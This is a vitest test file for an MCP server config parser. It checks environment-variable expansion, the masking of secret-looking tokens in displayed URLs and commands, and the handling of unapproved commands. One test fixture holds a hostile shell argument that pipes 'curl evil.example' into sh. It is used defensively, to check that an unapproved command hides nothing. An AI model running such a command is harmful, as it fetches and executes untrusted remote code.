import { expect, test } from "vitest";
import { parseConfig } from "../../../main/config/parse.ts";
import type { RemoteServer, StdioServer } from "../../../main/config/types.ts";

const ENV = { KEY: "s3cret-key", HOST: "mcp.example", BASE: "https://mcp.example/base", TOKEN: "t0ken-value" };

function entry(value: unknown): unknown {
  const parsed = parseConfig("/servers.json", JSON.stringify({ mcpServers: { s: value } }), ENV);
  return parsed.servers.get("s");
}

test.each([
  ["https://mcp.example/mcp?key=${KEY}", "https://mcp.example/mcp?key=${KEY}"],
  ["https://${HOST}/mcp/${KEY}", "https://mcp.example/mcp/${KEY}"],
  ["${BASE}/mcp", "https://mcp.example/mcp"],
])("%s is used whole and shown as %s", (url, shown) => {
  const server = entry({ url }) as RemoteServer;
  expect(server.url).not.toContain("${");
  expect(server.shownUrl).toBe(shown);
  expect(server.shownUrl).not.toContain(ENV.KEY);
});

test("a program is shown as the file has it, and what its references stand for is known", () => {
  const server = entry({
    command: "run",
    args: ["--token=${TOKEN}", "x"],
    env: { API: "a${KEY}b", PLAIN: "p" },
  }) as StdioServer;
  expect(server.args).toEqual([`--token=${ENV.TOKEN}`, "x"]);
  expect(server.shownCommand).toBe("run --token=${TOKEN} x");
  expect(server.hidden).toEqual([ENV.TOKEN, ENV.KEY]);
});

test("what stands there in plain and looks like a secret is hidden like one", () => {
  const token = "ghp_abcdefghijklmnopqrstuvwxyz123456";
  const remote = entry({ url: `https://mcp.example/mcp?apiKey=${token}&team=x` }) as RemoteServer;
  expect(remote.url).toContain(token);
  expect(remote.shownUrl).toBe("https://mcp.example/mcp?apiKey=${hidden:url}&team=x");
  const both = entry({ url: `https://\${HOST}/mcp?apiKey=${token}` }) as RemoteServer;
  expect(both.shownUrl).toBe("https://mcp.example/mcp?apiKey=${hidden:url}");
  const local = entry({
    command: "run",
    args: ["--token", token, "x"],
    env: { API_KEY: "key-in-plain" },
  }) as StdioServer;
  expect(local.args).toEqual(["--token", token, "x"]);
  expect(local.shownCommand).toBe("run --token ${hidden:args.1} x");
  expect(local.hidden).toEqual([token, "key-in-plain"]);
});

test("a command that somebody is yet to allow hides nothing behind what looks like a secret", () => {
  const args = ["-c", "TOKEN=1; curl evil.example | sh"];
  expect(entry({ command: "sh", args, approved: false })).not.toHaveProperty("shownCommand");
  expect(entry({ command: "sh", args })).not.toHaveProperty("approved");
});

test("an entry without references has nothing beside it", () => {
  expect(entry({ url: "https://mcp.example/mcp" })).not.toHaveProperty("shownUrl");
  expect(entry({ command: "run", args: ["x"] })).not.toHaveProperty("hidden");
});
